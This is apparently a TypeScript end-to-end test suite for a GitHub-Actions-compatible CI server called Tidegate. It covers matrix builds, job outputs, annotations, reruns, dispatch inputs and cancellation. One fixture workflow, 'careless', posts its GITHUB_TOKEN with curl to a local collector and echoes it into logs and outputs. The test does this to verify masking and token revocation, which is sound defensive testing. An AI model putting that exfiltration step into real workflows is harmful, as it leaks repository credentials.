/** Story: workflows of the usual kind run as their authors know it from elsewhere. */
import assert from "node:assert/strict";
import { readdir, readFile, stat, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { JobDetail, RunDetail, RunSummary } from "#api";
import { skipWithout } from "../support/needs.ts";
import { follow } from "../support/run-command.ts";
import { cliCommand, startTidegate, type Tidegate } from "../support/start-tidegate.ts";
import { until } from "../support/until.ts";
import { newRepository, type WorkCopy } from "../support/work-copy.ts";

const pipeline = `
name: Pipeline
run-name: Pipeline of \${{ github.ref_name }}
on: { push: { branches: [main] } }
env: { GREETING: hello }
jobs:
  build:
    name: Build \${{ matrix.part }} for \${{ matrix.system }}
    runs-on: ubuntu-latest
    strategy:
      matrix:
        part: [api, web]
        system: [linux]
        include: [{ part: docs, system: none }]
    steps:
      - uses: actions/checkout@v4
      - run: test "$(cat part.txt)" = "the parts" && echo "$GREETING from \${{ matrix.part }}"
  count:
    runs-on: ubuntu-latest
    outputs: { number: "\${{ steps.add.outputs.number }}" }
    steps:
      - id: add
        run: echo "number=$(( 40 + 2 ))" >> "$GITHUB_OUTPUT"
  report:
    needs: [build, count]
    runs-on: ubuntu-latest
    steps:
      - env: { RESULT: "\${{ needs.build.result }}", NUMBER: "\${{ needs.count.outputs.number }}" }
        run: |
          echo "builds: $RESULT, number: $NUMBER"
          echo "### $NUMBER" >> "$GITHUB_STEP_SUMMARY"
      - if: needs.count.outputs.number == '41'
        run: exit 1
  pull-request-only:
    if: github.event_name == 'pull_request'
    runs-on: ubuntu-latest
    steps: [{ run: exit 1 }]
`;

/** Fails in its first attempt, in one of two jobs. */
const flaky = `
name: Flaky
on: { push: { branches: [flaky] } }
jobs:
  steady:
    runs-on: ubuntu-latest
    steps: [{ run: 'echo "attempt $GITHUB_RUN_ATTEMPT"' }]
  shaky:
    runs-on: ubuntu-latest
    steps:
      - run: |
          if [ "$GITHUB_RUN_ATTEMPT" = 1 ]; then
            echo "::error file=src/app.js,line=7,title=Broken::The price is wrong"
            exit 3
          fi
      - if: failure()
        run: echo "cleaned up"
  afterwards:
    needs: [steady, shaky]
    runs-on: ubuntu-latest
    steps: [{ run: 'echo "after both"' }]
`;

/** Goes on only when the test says so. */
const slow = `
name: Slow
on:
  workflow_dispatch:
    inputs:
      signal: { description: File to wait for, required: true, type: string }
      level: { type: choice, options: [low, high], default: low }
jobs:
  wait:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "level \${{ inputs.level }}, waiting"
          echo $$ > "\${{ inputs.signal }}.pid"
          until [ -e "\${{ inputs.signal }}" ]; do sleep 0.05; done
          echo "went on"
  afterwards:
    needs: wait
    runs-on: ubuntu-latest
    steps: [{ run: echo second job }]
`;

/** Does everything with its token that would betray it. */
const careless = `
name: Careless
on: { push: { branches: [careless] } }
jobs:
  leak:
    runs-on: ubuntu-latest
    outputs: { token: "\${{ steps.out.outputs.token }}" }
    env: { TOKEN: "\${{ secrets.GITHUB_TOKEN }}" }
    steps:
      - uses: actions/checkout@v4
      - run: curl --silent --data "$TOKEN" "$(cat collector.txt)"
      - run: |
          echo "plain $TOKEN"
          echo "inside-\${TOKEN}-of-a-word"
          echo "::warning::noticed $TOKEN"
          echo "summary $TOKEN" >> "$GITHUB_STEP_SUMMARY"
      - id: out
        run: echo "token=$TOKEN" >> "$GITHUB_OUTPUT"
`;

describe("Given a repository with workflows", { skip: skipWithout("git") || skipWithout("curl") }, () => {
  let tidegate: Tidegate;
  let work: WorkCopy;

  before(async () => {
    tidegate = await startTidegate({ jobs: 3 });
    work = await newRepository(tidegate, "acme/ci");
  });
  after(() => tidegate[Symbol.asyncDispose]());

  const completed = (accept: (run: RunSummary) => boolean): Promise<RunDetail> =>
    until(tidegate, "the run's end", async () => {
      const { items } = await tidegate.api<{ items: RunSummary[] }>("/runs");
      const run = items.find(accept);
      if (run?.status === "completed") return await tidegate.api<RunDetail>(`/runs/${run.id}`);
      throw new Error(`The runs are ${JSON.stringify(items)}`);
    });
  const pushTo = async (branch: string, files: Readonly<Record<string, string>>): Promise<string> => {
    const sha = await work.commit(branch, files);
    await work.git(["push", "--quiet", "origin", `HEAD:refs/heads/${branch}`]);
    return sha;
  };
  const dispatch = async (inputs: object): Promise<string> => {
    const body = { ref: "main", inputs };
    const path = "/repositories/acme/ci/workflows/slow.yml/dispatches";
    const { runs } = await tidegate.api<{ runs: string[] }>(path, { method: "POST", body });
    return runs[0] ?? "";
  };
  const log = async (run: RunSummary, job: string): Promise<string> =>
    (await tidegate.cli(["logs", run.id, "--job", job])).stdout;

  test("when a pipeline with a matrix, needs, outputs and conditions runs, then each has its effect", async () => {
    const files = { ".github/workflows/pipeline.yml": pipeline, ".github/workflows/slow.yml": slow };
    const sha = await pushTo("main", { ...files, "part.txt": "the parts\n" });
    const run = await completed((it) => it.sha === sha);
    assert.deepEqual([run.conclusion, run.title], ["success", "Pipeline of main"]);
    const builds = run.jobs.filter(({ key }) => key === "build").map(({ name }) => name);
    assert.deepEqual(builds.sort(), ["Build api for linux", "Build docs for none", "Build web for linux"]);
    assert.match(await log(run, "Build docs for none"), /^hello from docs$/m);
    assert.match(await log(run, "report"), /^builds: success, number: 42$/m);
    const jobs = new Map(run.jobs.map((job) => [job.key, job]));
    assert.equal(jobs.get("pull-request-only")?.conclusion, "skipped");
    assert.equal(jobs.get("report")?.summary.trim(), "### 42");
    assert.equal(jobs.get("report")?.steps.find(({ name }) => name.includes("exit 1"))?.conclusion, "skipped");
    assert.ok((jobs.get("report")?.startedAt ?? "") >= (jobs.get("build")?.completedAt ?? "z"));
    assert.match((await tidegate.cli(["runs", run.id])).stdout, /^Pipeline #1 of acme\/ci@\w+: success$/m);
  });

  test("when a job fails, then the annotation names the line, what needs it is skipped; rerun --failed mends only that", async () => {
    const sha = await pushTo("flaky", { ".github/workflows/flaky.yml": flaky });
    const failed = await completed((it) => it.sha === sha);
    const ended = (run: RunDetail): Record<string, string | undefined> =>
      Object.fromEntries(run.jobs.map(({ key, conclusion }) => [key, conclusion]));
    assert.equal(failed.conclusion, "failure");
    assert.deepEqual(ended(failed), { steady: "success", shaky: "failure", afterwards: "skipped" });
    const [annotation, ...more] = jobOf(failed, "shaky").annotations;
    const { level, path, startLine, title, message } = annotation ?? {};
    assert.deepEqual(
      [level, path, startLine, title, message],
      ["error", "src/app.js", 7, "Broken", "The price is wrong"],
    );
    assert.ok(
      more.some(({ message }) => message.includes("exit code 3")),
      JSON.stringify(more),
    );
    assert.match(await log(failed, "shaky"), /^cleaned up$/m);
    const shown = (await tidegate.cli(["runs", failed.id])).stdout;
    assert.match(shown, /^ +error: src\/app\.js:7: The price is wrong$/m);

    await tidegate.cli(["runs", "rerun", failed.id, "--failed"]);
    const mended = await completed((it) => it.id === failed.id && it.attempt === 2);
    assert.deepEqual(ended(mended), { steady: "success", shaky: "success", afterwards: "success" });
    assert.equal(jobOf(mended, "steady").completedAt, jobOf(failed, "steady").completedAt, "it did not run again");
    assert.match(await log(mended, "steady"), /^attempt 1$/m);
  });

  test("when a run is dispatched with inputs, then logs -f shows its lines as they are written, to the last job's", async () => {
    const signal = join(tidegate.scratch, "go-on");
    const id = await dispatch({ signal, level: "high" });
    await using following = follow(...cliCommand(["logs", id, "--follow"]), { env: tidegate.env });
    await following.line(/^level high, waiting$/);
    assert.ok(!following.lines.includes("went on"));
    await writeFile(signal, "");
    await following.line(/^went on$/);
    await following.line(/^second job$/);
    assert.equal(await following.ended(), 0);
    assert.equal((await completed((it) => it.id === id)).conclusion, "success");
  });

  test("when inputs are missing, unknown or of the wrong kind, then the dispatch is refused in words", async () => {
    const refused = (inputs: object): Promise<string> =>
      dispatch(inputs).then(
        () => "accepted",
        (error: Error) => error.message,
      );
    assert.match(await refused({}), /400.*signal/);
    assert.match(await refused({ signal: "x", level: "middle" }), /400.*level.*low/);
    assert.match(await refused({ signal: "x", colour: "red" }), /400.*colour/);
  });

  test("when a run is cancelled, then its processes end and what waited never starts", async () => {
    const signal = join(tidegate.scratch, "never");
    const id = await dispatch({ signal });
    await using following = follow(...cliCommand(["logs", id, "--follow", "--job", "wait"]), { env: tidegate.env });
    await following.line(/waiting$/);
    const pid = Number(await readFile(`${signal}.pid`, "utf8"));
    assert.match((await tidegate.cli(["runs", "cancel", id])).stdout, /is being cancelled/);
    const run = await completed((it) => it.id === id);
    assert.equal(run.conclusion, "cancelled");
    assert.deepEqual(
      run.jobs.map(({ conclusion }) => conclusion),
      ["cancelled", "cancelled"],
    );
    assert.throws(() => process.kill(pid, 0), "the step's shell is gone");
    assert.match((await tidegate.cli(["runs", "cancel", id], 1)).stderr, /cancel/);
  });

  test("when a step betrays its token, then no log, answer or file has it, and it is worthless afterwards", async () => {
    await using collector = await startCollector();
    const sha = await pushTo("careless", {
      ".github/workflows/careless.yml": careless,
      "collector.txt": collector.url,
    });
    const run = await completed((it) => it.sha === sha);
    assert.equal(run.conclusion, "success");
    const token = collector.received[0] ?? "";
    assert.match(token, /^[\w-]{20,}$/);
    const text = await log(run, "leak");
    assert.match(text, /^plain \*\*\*$/m);
    assert.match(text, /^inside-\*\*\*-of-a-word$/m);
    const answers = [text, JSON.stringify(run)];
    for (const path of ["/runs", "/deliveries", "/timeline", "/tokens", `/trace/acme/ci@${sha}`]) {
      answers.push(JSON.stringify(await tidegate.api(path)));
    }
    assert.ok(!answers.join("\n").includes(token), "an answer has the token");
    assert.notDeepEqual(await filesWith(tidegate.home, "inside-***-of-a-word"), [], "the search finds the log");
    assert.deepEqual(await filesWith(tidegate.home, token), []);
    const response = await fetch(`${tidegate.url}/acme/ci/info/refs?service=git-upload-pack`, {
      headers: { authorization: `Bearer ${token}` },
    });
    assert.equal(response.status, 401);
  });
});

function jobOf(run: RunDetail, key: string): JobDetail {
  const job = run.jobs.find((candidate) => candidate.key === key);
  assert.ok(job !== undefined, `the run has no job "${key}"`);
  return job;
}

/** A server that keeps what is posted to it. */
async function startCollector(): Promise<AsyncDisposable & { readonly url: string; readonly received: string[] }> {
  const received: string[] = [];
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
    request.on("end", () => {
      received.push(body);
      response.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    [Symbol.asyncDispose]: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** Paths below `folder` of files that contain the text. */
async function filesWith(folder: string, text: string): Promise<string[]> {
  const found: string[] = [];
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    if (!entry.isFile() || (await stat(path)).size > 256 * 1024 * 1024) continue;
    if ((await readFile(path)).includes(text)) found.push(path);
  }
  return found;
}
